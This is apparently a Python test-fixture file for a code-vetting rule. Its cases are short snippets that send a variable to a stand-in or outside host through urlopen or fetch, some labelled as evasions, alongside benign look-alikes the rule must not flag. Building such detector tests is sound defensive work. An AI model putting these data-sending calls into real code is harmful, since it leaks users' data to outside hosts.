"""More of what rules about code must see, and must not: what is asked for in parts, and run a step later."""

from typing import Final

from tests.vetting.domain.signals.code.cases import Case

_OPEN: Final = "from urllib.request import urlopen\n"

CASES: Final = (
    # Addresses that something is appended to.
    Case("C10", "hit", "low", f"{_OPEN}def f(v):\n    urlopen('http://c.example.invalid/?v=' + v)\n"),
    Case("C10", "hit", "medium", f"{_OPEN}def f(v):\n    urlopen(f'http://93.184.216.34/?v={{v}}')\n"),
    Case("C10", "hit", "low", f"{_OPEN}U = 'http://192.0.2.9/u'\ndef f(v):\n    urlopen(U + v)\n"),
    Case("C10", "evasion", "medium", "fetch(`http://93.184.216.34/${Date.now()}`)\n", "demo/work.js"),
    Case("C10", "evasion", "low", "fetch(`https://c.example.invalid/${a}/x`)\n", "demo/work.js"),
    Case("C10", "twin", None, "const a = `<a>${x}</a>`; fetch(u); f(`${a}/${b}`)\n", "demo/work.js"),
    Case("C10", "twin", None, f"{_OPEN}'''See https://c.example.invalid.'''\ndef f(v):\n    urlopen(v)\n"),
    Case(
        "C10",
        "twin",
        None,
        f"{_OPEN}A = 'http://www.w3.org/x'\nB = 'http://localhost:1/'\nC = 'http://%s/'\nurlopen(x)\n",
    ),
)
